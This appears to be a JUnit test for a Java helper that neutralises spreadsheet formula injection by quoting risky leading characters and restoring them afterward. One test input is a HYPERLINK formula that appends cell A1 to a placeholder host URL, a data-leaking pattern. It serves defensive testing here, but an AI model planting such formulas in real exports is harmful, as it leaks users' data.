package org.leye.casework.shared;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class SpreadsheetCellsTest {

    @Test
    void textStartingAFormulaGetsAQuoteInFront() {
        assertThat(SpreadsheetCells.neutralise("=HYPERLINK(\"http://x.example/\"&A1,\"查看\")"))
                .isEqualTo("'=HYPERLINK(\"http://x.example/\"&A1,\"查看\")");
        assertThat(SpreadsheetCells.neutralise("+86 138 0013 8000")).isEqualTo("'+86 138 0013 8000");
        assertThat(SpreadsheetCells.neutralise("-1")).isEqualTo("'-1");
        assertThat(SpreadsheetCells.neutralise("@SUM(A1)")).isEqualTo("'@SUM(A1)");
        assertThat(SpreadsheetCells.neutralise("\t张三")).isEqualTo("'\t张三");
        assertThat(SpreadsheetCells.neutralise("\r=1+1")).isEqualTo("'\r=1+1");
    }

    @Test
    void otherTextIsLeftAsItIs() {
        assertThat(SpreadsheetCells.neutralise("会计学")).isEqualTo("会计学");
        assertThat(SpreadsheetCells.neutralise("a=1")).isEqualTo("a=1");
        assertThat(SpreadsheetCells.neutralise(" =1")).isEqualTo(" =1");
        assertThat(SpreadsheetCells.neutralise("'=1")).isEqualTo("'=1");
        assertThat(SpreadsheetCells.neutralise("")).isEmpty();
        assertThat(SpreadsheetCells.neutralise(null)).isNull();
    }

    @Test
    void restoreUndoesNeutraliseAndNothingElse() {
        for (String text : new String[] { "=1+1", "+86 138", "-", "-1", "@x", "\t张三", "\r\n", "会计学", "'Connor", "'",
                "''=1", "" }) {
            assertThat(SpreadsheetCells.restore(SpreadsheetCells.neutralise(text))).as(text).isEqualTo(text);
        }
        assertThat(SpreadsheetCells.restore("'Connor")).isEqualTo("'Connor");
        assertThat(SpreadsheetCells.restore("'")).isEqualTo("'");
        assertThat(SpreadsheetCells.restore(null)).isNull();
    }
}
